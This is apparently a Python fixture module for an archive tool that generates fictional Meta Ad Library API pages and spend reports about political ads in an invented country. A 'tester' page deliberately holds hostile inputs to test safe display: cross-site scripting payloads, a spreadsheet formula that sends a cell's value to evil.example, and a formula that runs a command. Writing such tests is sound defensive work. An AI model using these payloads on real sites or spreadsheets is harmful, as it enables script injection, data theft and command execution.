"""The samples of Meta: its pages, ads of the API, rows of the report; first the facts, then how Meta prints them."""

import base64
import hashlib
import json
import math
from collections.abc import Iterable, Mapping, Sequence
from typing import Any, NamedTuple

from archive.samples.make_common import CAPTURES, NO_DISCLAIMER, TOKEN, Files, Json, Zip, csv_bytes


class Page(NamedTuple):
    """A page on Meta: who runs the ads and who is said to pay ("" = ran without a disclaimer)."""

    id: str
    name: str
    payer: str


PAGES = {
    "civic": Page("999980000000001", "Civic Alliance Veldoria", "Civic Alliance Veldoria"),
    "harbour": Page("999980000000002", "Harbour & Hills Party", "Harbour & Hills Party, Federal Office"),
    "lantern": Page("999980000000003", "Lantern Movement", "Lantern Movement Campaign Fund"),
    "office": Page("999980000000004", "Federal Election Office of Veldoria", "Federal Election Office of Veldoria"),
    "rivers": Page("999980000000005", "Riverkeepers of the Älv", "Riverkeepers of the Älv, registered charity"),
    "neighbours": Page("999980000000006", "Nordmark Neighbours", "Nordmark Neighbours Association"),
    "lamppost": Page("999980000000007", "The Älvmünde Lamp-Post", ""),
    # The tester writes what an archive must survive. Its id is larger than 2^53: numbers lose its last digit.
    "tester": Page("999980000000000008", "Archive Test Page <b>hostile</b>", '=SUM(1,2) Testers\' "Circle", <i>'),
    "tenants": Page("999980000000009", "Südufer Tenants' Table", "Südufer Tenants' Table"),
}
# What the second capture says of the same pages.
RENAMED = {"lantern": "Lantern & Rivers Movement"}
PAYER_WITHDRAWN = {"neighbours"}

# Whom an ad reached: weight per age, and the share of women.
PEOPLE = {
    "everyone": ({"18-24": 8, "25-34": 18, "35-44": 20, "45-54": 20, "55-64": 18, "65+": 16}, 0.51),
    "young": ({"18-24": 64, "25-34": 36}, 0.55),
    "working": ({"25-34": 34, "35-44": 38, "45-54": 28}, 0.52),
    "parents": ({"25-34": 30, "35-44": 50, "45-54": 20}, 0.66),
    "older": ({"45-54": 14, "55-64": 38, "65+": 48}, 0.47),
}
NORTH, SOUTH, CAPITAL, UNKNOWN = "Nordmark", "Südufer", "Älvmünde, Capital District", "Unknown"
WHERE: dict[str, dict[str, float]] = {
    "country": {NORTH: 34, SOUTH: 27, CAPITAL: 38.4, UNKNOWN: 0.6},
    "north": {NORTH: 94, SOUTH: 2, CAPITAL: 4},
    "south": {NORTH: 3, SOUTH: 91, CAPITAL: 6},
    "capital": {CAPITAL: 1},
}


class MetaAd(NamedTuple):
    """An ad as the Ad Library API tells it; amounts are the API's own ranges, "1000000-" has no upper bound."""

    n: int
    page: str
    language: str
    started: str
    spend: str
    impressions: str
    audience: str
    people: str
    where: str
    bodies: tuple[str, ...]
    title: str = ""
    caption: str = ""
    description: str = ""
    stops: str = ""
    platforms: tuple[str, ...] = ("facebook", "instagram")


FLOOD_TEXT = "Three winters, three floods, and still no wall at Harbour Row. Ask everyone who rings your bell: when?"

META_ADS = (
    MetaAd(
        101, "civic", "en", "2026-04-02", "1000000-", "1000000-", "1000001-", "everyone", "country",
        ("On 14 June, Veldoria decides. We have costed every promise and put the sums online, line by line. "
         "Read them, argue with us, then vote.",),
        "Our programme, with the sums", "civicalliance.example", "142 pages, one table, no small print.",
    ),
    MetaAd(
        102, "civic", "de", "2026-04-11", "4000-4499", "300000-349999", "100001-500000", "parents", "north",
        ("Die Schule beginnt um acht, der Bus kommt um zwanzig nach. Das ist kein Naturgesetz. "
         "Ein Takt für ganz Nordmark, ab Herbst, wenn Sie uns am 14. Juni wählen.",),
        "Ein Takt für Nordmark", "civicalliance.example",
    ),
    MetaAd(
        103, "civic", "ur", "2026-04-18", "700-799", "60000-69999", "50001-100000", "everyone", "capital",
        ("یہ شہر آپ کا بھی ہے۔ آپ کی دکان، آپ کے بچے، آپ کا محلہ یہیں ہے۔ ۱۴ جون کو فیصلہ بھی آپ کا ہو: ووٹ دیجیے۔",),
        "۱۴ جون، آپ کا ووٹ", "civicalliance.example",
    ),
    MetaAd(
        104, "civic", "es", "2026-04-20", "900-999", "70000-79999", "100001-500000", "older", "capital",
        ("Mi abuela esperó once horas en urgencias. Once. Dos clínicas nuevas en la capital antes de 2028: "
         "eso proponemos, y esto es lo que cuesta.",),
        "Dos clínicas, con su presupuesto", "civicalliance.example", stops="2026-05-01",
    ),
    MetaAd(
        105, "civic", "hi", "2026-04-27", "200-299", "15000-19999", "10001-50000", "working", "south",
        ("गाँव से राजधानी तक एक टिकट, एक किराया। पढ़ाई और इलाज के लिए सफ़र महँगा नहीं होना चाहिए। 14 जून को वोट दें।",),
        "एक टिकट, पूरा देश", "civicalliance.example",
    ),
    MetaAd(
        201, "harbour", "de", "2026-04-06", "8000-8999", "500000-599999", "500001-1000000", "older", "south",
        ("Wer Milch für 38 Cent verkaufen muss, verkauft am Ende den Hof. Ein fairer Preis ist keine Subvention. "
         "Er ist Respekt.",),
        "Fairer Preis, faire Arbeit", "harbourandhills.example",
    ),
    MetaAd(
        202, "harbour", "en", "2026-04-14", "1500-1999", "100000-124999", "100001-500000", "everyone", "south",
        ("The ferry to Saint Ebba has been cancelled 61 times since January. We counted. "
         "We would rather count sailings.",),
        "61 cancelled ferries", "harbourandhills.example", "A timetable is a promise.",
    ),
    MetaAd(
        203, "harbour", "en", "2026-04-22", "600-699", "45000-49999", "50001-100000", "everyone", "capital",
        (FLOOD_TEXT,), "When?", "harbourandhills.example",
    ),
    MetaAd(
        204, "harbour", "de", "2026-03-25", "2000-2499", "175000-199999", "100001-500000", "older", "north",
        ("Die nächste Hausärztin ist vierzig Minuten entfernt. Im Winter siebzig. "
         "Wir holen die Praxis zurück ins Dorf.",),
        "Vierzig Minuten sind zu weit", "harbourandhills.example", stops="2026-04-25",
    ),
    MetaAd(
        301, "lantern", "en", "2026-04-09", "5000-5999", "450000-499999", "500001-1000000", "young", "capital",
        ("Rent should not eat half a nurse's wage. Cap it at a third. That is our whole leaflet. 🏮",),
        "A third, not a half", "lantern.example", "Sign, share, vote.",
    ),
    MetaAd(
        302, "lantern", "de", "2026-04-16", "1000-1499", "90000-99999", "100001-500000", "working", "country",
        ("Licht an im Parlament: jedes Treffen mit Lobbyisten ins Netz, noch am selben Tag. 🏮",),
        "Licht an!", "lantern.example",
    ),
    MetaAd(
        303, "lantern", "ar", "2026-04-24", "400-499", "35000-39999", "10001-50000", "everyone", "capital",
        ("لكل بيت نافذة، ولكل نافذة ضوء. في ١٤ يونيو أضئ نافذتك: شارك وصوّت. 🏮",),
        "أضئ نافذتك", "lantern.example",
    ),
    MetaAd(
        304, "lantern", "es", "2026-04-29", "0-99", "3000-3999", "10001-50000", "young", "capital",
        ("¿Primera vez que votas? Nadie nace sabiendo. Te lo explicamos en un minuto y sin jerga. 🏮",),
        platforms=("instagram",),
    ),
    MetaAd(
        401, "office", "en", "2026-04-15", "3500-3999", "250000-299999", "1000001-", "everyone", "country",
        ("Sunday 14 June, eight to eight. Bring your card or your passport. No card? Your polling station will find "
         "you in the register.",),
        "How to vote", "elections.veldoria.example", "Free, official, in five languages.", stops="2026-06-14",
    ),
    MetaAd(
        402, "office", "ar", "2026-04-15", "300-399", "25000-29999", "50001-100000", "everyone", "country",
        ("يوم الأحد ١٤ يونيو، من الثامنة صباحًا حتى الثامنة مساءً. أحضر بطاقة هويتك أو جواز سفرك. "
         "المعلومات مجانية وبلغتك.",),
        "كيف تصوّت", "elections.veldoria.example", stops="2026-06-14",
    ),
    MetaAd(
        403, "office", "ur", "2026-04-21", "100-199", "10000-14999", "10001-50000", "everyone", "country",
        ("ڈاک کے ذریعے ووٹ کی درخواست ۲۹ مئی تک دی جا سکتی ہے۔ فارم مفت ہے اور دو منٹ میں بھر جاتا ہے۔",),
        "ڈاک سے ووٹ", "elections.veldoria.example", stops="2026-05-29",
    ),
    MetaAd(
        501, "rivers", "en", "2026-03-30", "500-599", "50000-59999", "100001-500000", "older", "north",
        ("In 1962 the Älv carried nine hundred tonnes of salmon. Last year it carried nine. "
         "Ask your candidates about the weir at Ostrand.",),
        "From nine hundred to nine", "riverkeepers.example",
    ),
    MetaAd(
        502, "rivers", "de", "2026-04-03", "100-199", "8000-8999", "50001-100000", "parents", "capital",
        ("Schwimmen in der Älv? Seit 2019 verboten. Unterschreiben Sie für ein Klärwerk, das seinen Namen verdient.",),
        "Der Fluss gehört allen", "riverkeepers.example", stops="2026-04-28",
    ),
    MetaAd(
        601, "neighbours", "en", "2026-04-23", "0-99", "4000-4999", "5001-10000", "parents", "north",
        ("A bypass is planned straight through Birch Wood. Thursday, seven o'clock, the old fire station. "
         "Bring questions, coffee is on us.",),
        platforms=("facebook",),
    ),
    MetaAd(
        602, "neighbours", "de", "2026-04-26", "100-199", "9000-9999", "10001-50000", "parents", "north",
        ("Tempo 30 vor der Schule: Uns fehlen noch 212 Unterschriften. Eine davon könnte Ihre sein.",),
        "Noch 212", "nordmark-neighbours.example", platforms=("facebook",),
    ),
    MetaAd(
        701, "lamppost", "en", "2026-04-25", "300-399", "30000-34999", "50001-100000", "everyone", "capital",
        (FLOOD_TEXT,), "A question for Harbour Row", "lamppost.example",
    ),
    MetaAd(
        702, "lamppost", "en", "2026-04-30", "0-99", "2000-2999", "50001-100000", "working", "capital",
        ("Who really paid for the stadium roof? Part four of our series is free to read tonight.",),
        "The roof, part four", "lamppost.example",
    ),
    MetaAd(
        801, "tester", "en", "2026-04-28", "0-99", "0-999", "100-1000", "working", "capital",
        ("<script>alert(1)</script><img src=x onerror=alert(2)> If this line is not plain text, the page that shows "
         "it is broken.",),
        '"><svg onload=alert(3)>', "javascript:alert(4)", "{{constructor.constructor('alert(5)')()}}",
    ),
    MetaAd(
        802, "tester", "en", "2026-04-28", "0-99", "0-999", "100-1000", "working", "capital",
        ('=HYPERLINK("https://evil.example/?x="&A1,"Click me")\nVote on \u202enuj 41\u202c, not on 41 jun.\u200b',),
        "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3",
    ),
)  # fmt: skip

# Three weeks later: ranges have moved, ads have ended, two have left the library without a word, five are new.
META_LATER: dict[int, Json] = {
    102: {"spend": "7000-7999", "impressions": "500000-599999"},
    103: {"spend": "1000-1499", "impressions": "90000-99999"},
    105: {"spend": "600-699", "impressions": "50000-59999"},
    201: {"spend": "10000-14999", "impressions": "800000-899999", "stops": "2026-05-20"},
    202: {"spend": "3000-3499", "impressions": "200000-249999"},
    203: {"stops": "2026-05-08"},
    301: {"spend": "10000-14999", "impressions": "900000-999999"},
    303: {"spend": "900-999", "impressions": "80000-89999"},
    304: {"spend": "100-199", "impressions": "10000-14999"},
    401: {"spend": "8000-8999", "impressions": "600000-699999"},
    402: {"spend": "800-899", "impressions": "70000-79999"},
    501: {"spend": "600-699", "impressions": "60000-69999", "stops": "2026-05-15"},
    701: {"spend": "1000-1499", "impressions": "100000-124999"},
}
META_GONE = {302, 502}
META_NEW = (
    MetaAd(
        106, "civic", "en", "2026-05-12", "2500-2999", "200000-249999", "100001-500000", "working", "country",
        ("Forty questions, forty answers, no applause lines. Tuesday's debate, in full and with the corrections we owe "
         "you.",),
        "The debate, corrected", "civicalliance.example",
    ),
    MetaAd(
        205, "harbour", "de", "2026-05-18", "1000-1499", "90000-99999", "100001-500000", "older", "south",
        ("Ein Hafen ohne Fischer ist ein Parkplatz mit Aussicht. Am 14. Juni: Hafen und Hügel.",),
        "Kein Parkplatz mit Aussicht", "harbourandhills.example",
    ),
    MetaAd(
        305, "lantern", "hi", "2026-05-16", "100-199", "9000-9999", "10001-50000", "older", "capital",
        ("मतदान केंद्र तक पहुँचना कठिन है? हमें बताइए, हम गाड़ी भेजेंगे। सेवा निःशुल्क है और सबके लिए है। 🏮",),
        "हम साथ चलेंगे", "lantern.example",
    ),
    MetaAd(
        404, "office", "de", "2026-05-11", "1500-1999", "125000-149999", "1000001-", "everyone", "country",
        ("Briefwahl: Antrag bis 29. Mai, zwei Minuten, kein Porto.",
         "Postal vote: apply by 29 May, two minutes, no stamp."),
        "Briefwahl beantragen", "elections.veldoria.example", stops="2026-05-29",
    ),
    MetaAd(
        901, "tenants", "en", "2026-05-14", "0-99", "1000-1999", "5001-10000", "young", "south",
        ("Rent should not eat half a nurse's wage. Cap it at a third. That is our whole leaflet. 🏮",),
        platforms=("instagram",),
    ),
)  # fmt: skip


class ReportRow(NamedTuple):
    """A line of the Ad Library Report: euros spent and ads in the 30 days before each capture (None: no line)."""

    page_id: str
    page_name: str
    disclaimer: str
    where: str
    first: tuple[int, int] | None
    second: tuple[int, int] | None


Spent = tuple[int, int] | None


def _of(page: str, where: str, first: Spent, second: Spent, payer: str = "") -> ReportRow:
    """Give the report line of one of our pages, for its usual payer or the one named."""
    disclaimer = payer or PAGES[page].payer or NO_DISCLAIMER
    return ReportRow(PAGES[page].id, PAGES[page].name, disclaimer, where, first, second)


REPORT = (
    _of("civic", "country", (412873, 61), (538410, 74)),
    _of("civic", "north", (18240, 12), (21905, 13), "Civic Alliance Veldoria, Nordmark branch"),
    _of("harbour", "south", (64118, 33), (71442, 36)),
    # The same page and disclaimer once more: Meta keeps two disclaimers of equal text apart. Both count.
    _of("harbour", "north", (9377, 8), (8120, 6)),
    _of("lantern", "capital", (38904, 41), (52077, 55)),
    _of("office", "country", (22316, 9), (40958, 14)),
    _of("rivers", "north", (1466, 7), (1102, 4)),
    _of("neighbours", "north", (388, 5), (97, 3)),
    _of("neighbours", "north", None, (214, 2), NO_DISCLAIMER),
    _of("lamppost", "capital", (843, 4), (1290, 5)),
    _of("tenants", "south", None, (61, 1)),
    _of("tester", "capital", (12, 2), (12, 2)),
    ReportRow("999980000000011", 'Projekt "Dorfladen" Südufer', "Dorfladen, Südufer", "south", (517, 3), (402, 3)),
    ReportRow("999980000000012", "@saint.ebba.bakery", NO_DISCLAIMER, "south", (88, 1), (88, 1)),
    # Meta has replaced the emoji of this name by U+FFFD itself; the name of the next page is gone with the page.
    ReportRow("999980000000013", "\ufffdOne Harbour Choir\ufffd", "One Harbour Choir", "capital", (131, 2), (131, 2)),
    ReportRow("999980000000014", "", NO_DISCLAIMER, "north", (64, 1), None),
    # Page ID 0: Instagram accounts without a page, many of them, told apart by name alone.
    ReportRow("0", "Instagram User 99990000101", NO_DISCLAIMER, "capital", (142, 1), (142, 1)),
    ReportRow("0", "Instagram User 99990000102", NO_DISCLAIMER, "south", (33, 1), (75, 2)),
    ReportRow("0", "Instagram User 99990000103", "Saint Ebba Island Council", "south", None, (41, 1)),
)
REPORT_README = """\
Sample of a Meta Ad Library Report, written for adlib. Everything in it is fictional.

_advertisers.csv: one line for each page and disclaimer, with the amount spent in the window and the number of ads.
_locations.csv: the amount spent in each region. regions/: the advertisers again, one file for each region.
The currency is named in the header. An amount of 100 or less is printed as ≤100.
"""


def meta_interval(text: str) -> Json:
    """Turn "100-199" into Meta's bounds, which are strings; "1000000-" has no upper bound at all."""
    lower, upper = text.split("-")
    return {"lower_bound": lower} | ({"upper_bound": upper} if upper else {})


def shares(weights: Mapping[Any, float], salt: str) -> list[tuple[Any, str]]:
    """Turn weights into Meta's percentage strings, moved a little by `salt` so that no two ads look the same."""
    moved = {key: weight * (0.8 + 0.4 * _fraction(f"{salt} {key}")) for key, weight in weights.items()}
    total = math.fsum(moved.values())  # exact: sum() adds floats differently since Python 3.12
    return [(key, _percentage(weight / total)) for key, weight in moved.items()]


def _fraction(text: str) -> float:
    """Give a number in [0, 1) that depends on the text alone."""
    return int.from_bytes(hashlib.sha256(text.encode()).digest()[:6], "big") / 2**48


def _percentage(share: float) -> str:
    """Print a share as the API does: six places, small ones as 2.6E-5."""
    if share >= 0.0001:
        return f"{share:.6f}".rstrip("0").rstrip(".")
    mantissa, exponent = f"{share:.1e}".split("e")
    return f"{mantissa}E{int(exponent)}"


def demographics(people: str, salt: str) -> list[Json]:
    """List the shares by age and gender; "unknown" is always a trace."""
    ages, women = PEOPLE[people]
    weights: dict[tuple[str, str], float] = {}
    for age, weight in ages.items():
        weights |= {(age, "female"): weight * women, (age, "male"): weight * (1 - women)}
    weights[(next(iter(ages)), "unknown")] = 0.005 if people == "everyone" else 0.4
    return [{"percentage": share, "age": age, "gender": gender} for (age, gender), share in shares(weights, salt)]


def regions(weights: Mapping[str, float], salt: str) -> list[Json]:
    """List the shares by region."""
    return [{"percentage": share, "region": region} for region, share in shares(weights, salt)]


def snapshot(ad_id: str, path: str = "archive/render_ad") -> str:
    """Give an ad's snapshot address, with the token of whoever asked in it, as the API does."""
    return f"https://www.facebook.com/ads/{path}/?id={ad_id}&access_token={TOKEN}"


def meta_ads(capture: int) -> list[MetaAd]:
    """List the ads of a capture, newest first, as the API orders them."""
    ads = list(META_ADS)
    if capture:
        ads = [ad._replace(**META_LATER.get(ad.n, {})) for ad in ads if ad.n not in META_GONE] + list(META_NEW)
    return sorted(ads, key=lambda ad: (ad.started, ad.n), reverse=True)


def meta_record(ad: MetaAd, capture: int) -> Json:
    """Print one ad with the field names of v26; what does not apply is left out, never null."""
    page = PAGES[ad.page]
    ad_id = f"999990000000{ad.n}"
    salt = f"{ad_id} {ad.impressions}"  # shares move only when impressions do
    withdrawn = capture and ad.page in PAYER_WITHDRAWN
    record: Json = {
        "id": ad_id,
        "ad_creation_time": ad.started,
        "ad_creative_bodies": list(ad.bodies),
        "ad_creative_link_captions": [ad.caption] if ad.caption else None,
        "ad_creative_link_descriptions": [ad.description] if ad.description else None,
        "ad_creative_link_titles": [ad.title] if ad.title else None,
        "ad_delivery_start_time": ad.started,
        "ad_delivery_stop_time": ad.stops or None,
        "ad_snapshot_url": snapshot(ad_id),
        "bylines": None if withdrawn else page.payer or None,
        "currency": "EUR",
        "delivery_by_region": regions(WHERE[ad.where], salt),
        "demographic_distribution": demographics(ad.people, salt),
        "estimated_audience_size": meta_interval(ad.audience),
        "impressions": meta_interval(ad.impressions),
        "languages": [ad.language],
        "page_id": page.id,
        "page_name": RENAMED.get(ad.page, page.name) if capture else page.name,
        "publisher_platforms": list(ad.platforms),
        "spend": meta_interval(ad.spend),
    }
    return {key: value for key, value in record.items() if value is not None}


def cursor(last_started: str, last_id: str) -> str:
    """Give a page's cursor: the API hides the last ad's start and id in it."""
    inner = base64.b64encode(f"{last_started}:{last_id}".encode()).decode()
    return base64.b64encode(f"scraping_cursor:{inner}".encode()).decode().rstrip("=") + "ZDZD"


def meta_api(capture: int) -> Files:
    """Make the response pages of one query; a short page still has a next one, an empty page is the end."""
    records = [meta_record(ad, capture) for ad in meta_ads(capture)]
    fields = "%2C".join(dict.fromkeys(field for record in records for field in record))
    files: Files = {"meta_api/veldoria_3.json": b'{"data":[]}'}
    for number, ads in ((1, records[:14]), (2, records[14:])):
        after = cursor(ads[-1]["ad_delivery_start_time"], ads[-1]["id"])
        following = (
            f"https://graph.facebook.com/v26.0/ads_archive?access_token={TOKEN}&fields={fields}"
            f"&ad_type=POLITICAL_AND_ISSUE_ADS&ad_active_status=ALL&ad_reached_countries=%5B%22DE%22%5D"
            f"&search_terms=%27%27&limit=14&after={after}"
        )
        page = {"data": ads, "paging": {"cursors": {"after": after}, "next": following}}
        files[f"meta_api/veldoria_{number}.json"] = json.dumps(page, ensure_ascii=False, indent=1).encode()
    return files


def report_amount(euros: int) -> str:
    """Print an amount as the report does: never less than 101, but ≤100."""
    return str(euros) if euros > 100 else "≤100"


def meta_report(capture: int) -> Files:
    """Make the zip of the 30-day report that ends the day before the capture."""
    day = ("2026-05-02", "2026-05-23")[capture]
    name = f"FacebookAdLibraryReport_{day}_DE_last_30_days"
    lines: list[tuple[str, ...]] = []
    by_region: dict[str, list[tuple[int, tuple[str, ...]]]] = {NORTH: [], SOUTH: [], UNKNOWN: [], CAPITAL: []}
    for row in sorted(REPORT, key=lambda row: -((row.first, row.second)[capture] or (0, 0))[0]):
        figures = (row.first, row.second)[capture]
        if figures is None:
            continue
        euros, ads = figures
        key = next((key for key, page in PAGES.items() if page.id == row.page_id), "")
        who = (row.page_id, RENAMED.get(key, row.page_name) if capture else row.page_name, row.disclaimer)
        lines.append((*who, report_amount(euros), str(ads)))
        weights = WHERE[row.where]
        for region, weight in weights.items():
            by_region[region].append((int(euros * weight / math.fsum(weights.values())), who))
    header = ("Page ID", "Page name", "Disclaimer", "Amount spent (EUR)")
    totals = [(region, report_amount(sum(euros for euros, _ in rows))) for region, rows in by_region.items()]
    members = {
        f"{name}_locations.csv": report_csv([("Location name", "Amount spent (EUR)"), *totals]),
        f"{name}_advertisers.csv": report_csv([(*header, "Number of ads in Library"), *lines]),
        "README.txt": REPORT_README.encode(),
    }
    for region, rows in by_region.items():
        spent = [(*who, report_amount(euros)) for euros, who in sorted(rows, key=lambda row: -row[0]) if euros]
        members[f"regions/{name}_{region}.csv"] = report_csv([header, *spent])
    return {f"meta_report/{name}.zip": Zip(CAPTURES[capture], members)}


def report_csv(rows: Iterable[Sequence[object]]) -> bytes:
    """Write a report file: UTF-8 with BOM, LF, no newline at the end."""
    return b"\xef\xbb\xbf" + csv_bytes(rows).removesuffix(b"\n")
